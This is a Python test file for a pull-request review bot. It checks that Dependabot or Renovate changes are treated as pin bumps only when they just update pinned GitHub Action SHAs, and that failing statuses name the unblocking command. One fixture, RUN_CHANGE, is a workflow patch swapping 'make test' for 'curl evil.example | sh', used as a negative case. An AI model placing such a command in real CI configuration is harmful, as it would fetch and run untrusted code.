"""Dependency bots' pull requests: when no review can run, the gate fails with the one command that unblocks it."""

from __future__ import annotations

from bot.github.port import PullFile
from bot.handlers import handle_event
from bot.review import bot_prs
from tests.plugins.gate import NUMBER, REPO, SHA, statuses  # noqa: F401

BUMP = (
    "@@ -12,7 +12,7 @@ jobs:\n     steps:\n"
    "-      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11 # v4.1.1\n"
    "+      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n"
    "       - run: make test"
)
WORKFLOW_BUMP = {"filename": ".github/workflows/ci.yml", "additions": 1, "deletions": 1, "changes": 2, "patch": BUMP}
RUN_CHANGE = {"filename": ".github/workflows/ci.yml", "additions": 1, "deletions": 1, "changes": 2,
              "patch": "@@ -1 +1 @@\n-      - run: make test\n+      - run: curl evil.example | sh"}


def _files(*dicts) -> list[PullFile]:
    return [PullFile(**d) for d in dicts]


def test_only_pin_bumps_count_as_pin_bumps():
    assert bot_prs.bumps_pinned_actions_only(_files(WORKFLOW_BUMP))
    assert bot_prs.bumps_pinned_actions_only(_files({**WORKFLOW_BUMP, "filename": "tools/setup/action.yml"}))
    assert not bot_prs.bumps_pinned_actions_only(_files(RUN_CHANGE))
    assert not bot_prs.bumps_pinned_actions_only(_files(WORKFLOW_BUMP, {"filename": "src/app.py", "patch": "@@\n-a\n+b"}))
    assert not bot_prs.bumps_pinned_actions_only(_files({**WORKFLOW_BUMP, "status": "added"}))
    assert not bot_prs.bumps_pinned_actions_only(_files({**WORKFLOW_BUMP, "patch": None}))
    assert not bot_prs.bumps_pinned_actions_only([])


def test_people_keep_the_normal_gate():
    assert bot_prs.unreviewable("octocat", _files(WORKFLOW_BUMP)) is None


def test_a_pin_bump_names_the_override_other_bot_work_names_review():
    pin = bot_prs.unreviewable("dependabot[bot]", _files(WORKFLOW_BUMP))
    assert pin.state == "failure" and bot_prs.OVERRIDE in pin.description and len(pin.description) <= 140
    other = bot_prs.unreviewable("renovate[bot]", _files(RUN_CHANGE))
    assert other.state == "failure" and "`/review`" in other.description


def test_a_dependabot_pr_without_a_key_fails_with_the_command_not_pending(fake_github, make_ctx, webhook_example):
    fake_github.add_repo(REPO)
    fake_github.add_pull(REPO, NUMBER, "Bump actions/checkout from 4.1.1 to 4.2.2", "", head_sha=SHA,
                         user="dependabot[bot]", files=[WORKFLOW_BUMP])
    payload = webhook_example("pull_request", "opened")
    payload["pull_request"]["user"] = {**payload["pull_request"]["user"], "login": "dependabot[bot]", "type": "Bot"}
    res = handle_event("pull_request", payload, make_ctx(llm=False))
    state, description = statuses(fake_github)[-1][1:]
    assert state == "failure" and bot_prs.OVERRIDE in description
    assert res.outputs["review_state"] == "failure"


def test_a_persons_pr_without_a_key_is_unchanged(fake_github, make_ctx, webhook_example):
    fake_github.add_repo(REPO)
    fake_github.add_pull(REPO, NUMBER, "Update CI", "", head_sha=SHA, user="octocat", files=[WORKFLOW_BUMP])
    handle_event("pull_request", webhook_example("pull_request", "opened"), make_ctx(llm=False))
    assert statuses(fake_github)[-1][1:] == ("pending", "Opus review not configured")


def test_a_read_only_dependabot_run_says_which_comment_unblocks_it(fake_github, webhook_example, runner_env, tmp_path):
    """Dependabot's Action run cannot even set the status (read-only token): the step's error names `/review`."""
    from tests.plugins.action import act, settings

    fake_github.add_repo(REPO)
    fake_github.add_pull(REPO, NUMBER, "Bump actions/checkout", "", head_sha=SHA, user="dependabot[bot]", files=[WORKFLOW_BUMP])
    payload = webhook_example("pull_request", "opened")
    payload["pull_request"]["user"] = {**payload["pull_request"]["user"], "login": "dependabot[bot]", "type": "Bot"}
    fake_github.fail_next("POST", r"/repos/.*/statuses/.*", 403, times=5)
    code, log = act(settings(tmp_path, fake_github, "pull_request", payload))
    assert code == 1 and "read-only token and no secrets" in log and "`/review`" in log
